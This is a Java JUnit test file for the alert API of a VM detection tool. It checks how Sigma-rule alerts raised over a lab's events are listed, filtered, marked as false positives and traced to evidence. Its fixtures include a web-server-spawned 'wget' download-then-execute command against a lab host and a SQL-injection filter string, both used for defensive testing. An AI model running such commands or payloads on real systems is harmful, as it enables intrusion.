package io.vmiscope.web;

import com.fasterxml.jackson.databind.JsonNode;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.StreamSupport;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The alert routes against a real server over a real DuckDB file, whose alerts the real Sigma detector with the
 * default ruleset raised over the lab's events and stored as {@code vmiscope detect} does (TestStores).
 */
class AlertApiTest {

    /** Ids of default rules that fire on the lab (vmiscope-detect's rules/linux). */
    static final String SHADOW = "355cd2f8-325c-5afc-be14-d42885e8c7c9";
    static final String DOWNLOAD_THEN_EXECUTE = "68c5d54b-db92-587a-9d44-3eface0e4228";
    static final String CRONTAB = "49519377-8f5a-55fb-a94b-aae9149b9551";
    static final String FROM_TMP = "24f87aee-ada1-5068-8755-93d9c5ec9b3a";

    @TempDir
    static Path dir;

    private static LabServer lab;
    private static Http http;

    @BeforeAll
    static void serve() {
        lab = LabServer.start(dir, new RecordingLiveVm());
        http = lab.http();
    }

    @AfterAll
    static void stop() {
        lab.close();
    }

    private static JsonNode alerts(String query) {
        Http.Response r = http.get("/api/vms/" + TestStores.LINUX + "/alerts" + query);
        assertThat(r.status()).as(r.body()).isEqualTo(200);
        return r.json();
    }

    private static JsonNode alertOf(String title) {
        return StreamSupport.stream(alerts("").get("items").spliterator(), false)
                .filter(a -> a.get("title").asText().startsWith(title)).findFirst()
                .orElseThrow(() -> new AssertionError(title + " in " + alerts("")));
    }

    private static String csrf() {
        return http.get("/api/session").json().get("csrf").asText();
    }

    private static List<String> titles(JsonNode page) {
        List<String> titles = new ArrayList<>();
        page.get("items").forEach(a -> titles.add(a.get("level").asText() + " " + a.get("processName").asText() + " "
                + a.get("title").asText()));
        return titles;
    }

    private static JsonNode byRule(String ruleId) {
        JsonNode page = alerts("?rule=" + ruleId);
        assertThat(page.get("items")).as(ruleId).hasSize(1);
        return page.get("items").get(0);
    }

    private static String lab(String path) {
        return "/api/vms/" + TestStores.LINUX + path;
    }

    @Test
    void theList_holdsTheDetectorsAlerts_newestFirst_withCountsPerLevel() {
        JsonNode page = alerts("");
        assertThat(titles(page)).hasSize(8).contains(
                "critical kit File Downloaded into a World-Writable Directory, then Executed",
                "high sh Web Server or CGI Spawns a Shell or Network Tool",
                "high wget Web Server or CGI Spawns a Shell or Network Tool",
                "high cat Password Hashes Read by a Program That Is Not a Login Tool",
                "medium crontab Crontab Installed or Edited with crontab",
                "high " + TestStores.HTML_NAME.substring(0, 15) + " Program Executed from /tmp, /var/tmp or /dev/shm");
        assertThat(page.get("total").asLong()).isEqualTo(8);
        List<Long> times = new ArrayList<>();
        page.get("items").forEach(a -> times.add(a.get("timeNanos").asLong()));
        assertThat(times).isSortedAccordingTo((a, b) -> Long.compare(b, a));
        assertThat(page.get("byLevel").toString())
                .isEqualTo("{\"informational\":0,\"low\":0,\"medium\":1,\"high\":6,\"critical\":1}");
        JsonNode download = byRule(DOWNLOAD_THEN_EXECUTE);
        assertThat(download.get("techniques").toString()).isEqualTo("[\"T1105\",\"T1204.002\"]");
        assertThat(download.get("evidence")).hasSize(2);
        assertThat(download.get("process").asText()).startsWith("152@");
        assertThat(download.get("mark").isNull()).isTrue();
    }

    @Test
    void theList_isFilteredByLevelRuleProcessMarkTextAndTime_andPaged() {
        assertThat(alerts("?level=high").get("total").asLong()).isEqualTo(7);
        assertThat(alerts("?level=high").get("byLevel").get("medium").asLong()).as("counts leave the level out")
                .isEqualTo(1);
        assertThat(alerts("?level=critical").get("total").asLong()).isEqualTo(1);
        assertThat(alerts("?rule=" + FROM_TMP + "," + CRONTAB).get("total").asLong()).isEqualTo(4);
        assertThat(alerts("?pid=152").get("total").asLong()).isEqualTo(2);
        String kit = byRule(DOWNLOAD_THEN_EXECUTE).get("process").asText();
        assertThat(alerts("?process=" + kit).get("total").asLong()).isEqualTo(2);
        assertThat(alerts("?text=SHADOW").get("items").get(0).get("ruleId").asText()).isEqualTo(SHADOW);
        assertThat(alerts("?mark=none").get("total").asLong()).isEqualTo(8);
        assertThat(alerts("?mark=acknowledged").get("total").asLong()).isZero();
        assertThat(alerts("?from=" + TestStores.INTRUSION).get("total").asLong()).isEqualTo(6);
        assertThat(alerts("?to=" + (TestStores.INTRUSION - 1)).get("total").asLong()).isEqualTo(2);
        JsonNode page = alerts("?limit=2&offset=7");
        assertThat(page.get("items")).hasSize(1);
        assertThat(page.get("total").asLong()).isEqualTo(8);
        String sqlish = URLEncoder.encode("' OR 1=1 --", StandardCharsets.UTF_8);
        assertThat(alerts("?text=" + sqlish).get("total").asLong()).isZero();
    }

    @Test
    void badFilters_andUnknownAlerts_getOneLineErrors() {
        Http.Response level = http.get(lab("/alerts?level=severe"));
        assertThat(level.status()).isEqualTo(400);
        assertThat(level.json().get("error").asText())
                .isEqualTo("'level' 'severe'; known: informational, low, medium, high, critical");
        assertThat(http.get(lab("/alerts?mark=ignored")).json().get("error").asText())
                .isEqualTo("'mark' must be acknowledged, false_positive or none, not 'ignored'");
        assertThat(http.get(lab("/alerts?process=1@1")).status()).isEqualTo(404);
        assertThat(http.get(lab("/alerts?limit=0")).status()).isEqualTo(400);
        assertThat(http.get("/api/vms/nope/alerts").status()).isEqualTo(404);
        assertThat(http.get(lab("/alerts/" + "0".repeat(32))).status()).isEqualTo(404);
        assertThat(http.send("PUT", lab("/alerts/" + "0".repeat(32) + "/mark"), "{\"mark\":\"acknowledged\"}",
                AccessGuard.CSRF_HEADER, csrf()).status()).isEqualTo(404);
    }

    @Test
    void anAlertsDetail_resolvesItsEvidence_andItsProcessAncestry() {
        String id = byRule(DOWNLOAD_THEN_EXECUTE).get("id").asText();
        JsonNode detail = http.get(lab("/alerts/" + id)).json();
        assertThat(detail.get("alert").get("explanation").asText()).contains("2 rules matched in order within 600 s");
        List<String> evidence = new ArrayList<>();
        detail.get("evidence").forEach(e -> evidence.add(e.get("kind").asText() + " " + e.get("processName").asText()
                + " " + e.get("summary").asText()));
        assertThat(evidence).hasSize(2);
        assertThat(evidence.get(0)).startsWith("file wget").contains("/tmp/kit");
        assertThat(evidence.get(1)).startsWith("exec kit").contains("/tmp/kit");
        List<String> ancestry = new ArrayList<>();
        detail.get("ancestry").forEach(p -> ancestry.add(p.get("pid").asInt() + " " + p.get("commandLine").asText()));
        assertThat(ancestry).containsExactly("152 /tmp/kit",
                "150 sh -c wget -O /tmp/kit http://10.0.2.2/kit; chmod +x /tmp/kit; /tmp/kit", "120 httpd -p 80",
                "100 sh -c start", "1 /sbin/init");
    }

    @Test
    void aMark_isKeptInTheStore_leavesFalsePositivesOutOfTheCounts_andCanBeCleared() {
        JsonNode crontab = byRule(CRONTAB);
        String mark = lab("/alerts/" + crontab.get("id").asText() + "/mark");
        String body = "{\"mark\":\"false_positive\",\"note\":\"the admin's <b>nightly</b> job\"}";
        assertThat(http.send("PUT", mark, body).status()).as("without the CSRF value").isEqualTo(403);
        assertThat(http.send("PUT", mark, "{\"mark\":\"wrong\"}", AccessGuard.CSRF_HEADER, csrf()).json()
                .get("error").asText()).isEqualTo("'mark' must be acknowledged, false_positive or null, not 'wrong'");
        assertThat(http.send("PUT", mark, "{}", AccessGuard.CSRF_HEADER, csrf()).status()).isEqualTo(400);

        Http.Response set = http.send("PUT", mark, body, AccessGuard.CSRF_HEADER, csrf());

        assertThat(set.status()).as(set.body()).isEqualTo(200);
        assertThat(set.json().get("mark").get("mark").asText()).isEqualTo("false_positive");
        assertThat(new io.vmiscope.store.AlertMarks(lab.store(), java.time.Clock.systemUTC())
                .of(crontab.get("id").asText()).orElseThrow().note()).isEqualTo("the admin's <b>nightly</b> job");
        assertThat(alerts("?mark=false_positive").get("items").get(0).get("mark").get("note").asText())
                .isEqualTo("the admin's <b>nightly</b> job");
        assertThat(alerts("?mark=none").get("total").asLong()).isEqualTo(7);
        JsonNode vm = http.get("/api/vms").json().get(0);
        assertThat(vm.get("alerts").asLong()).as("false positives are not counted").isEqualTo(7);
        assertThat(vm.get("alertsByLevel").get("medium").asLong()).isZero();
        assertThat(tree().get("alerts").has(crontab.get("process").asText())).isFalse();

        assertThat(http.send("PUT", mark, "{\"mark\":null}", AccessGuard.CSRF_HEADER, csrf()).json().get("mark")
                .isNull()).isTrue();
        assertThat(http.get("/api/vms").json().get(0).get("alerts").asLong()).isEqualTo(8);
    }

    private static JsonNode tree() {
        return http.get(lab("/tree")).json();
    }

    @Test
    void theOverviewAndTheTree_countAlerts_perVmAndPerProcessWithTheHighestLevel() {
        JsonNode vm = http.get("/api/vms").json().get(0);
        assertThat(vm.get("vm").asText()).isEqualTo(TestStores.LINUX);
        assertThat(vm.get("alerts").asLong()).isEqualTo(8);
        assertThat(vm.get("alertLevel").asText()).isEqualTo("critical");
        String kit = byRule(DOWNLOAD_THEN_EXECUTE).get("process").asText();
        JsonNode badges = tree().get("alerts");
        assertThat(badges.get(kit).toString()).isEqualTo("{\"alerts\":2,\"highest\":\"critical\"}");
        assertThat(badges.size()).isEqualTo(7);
    }
}
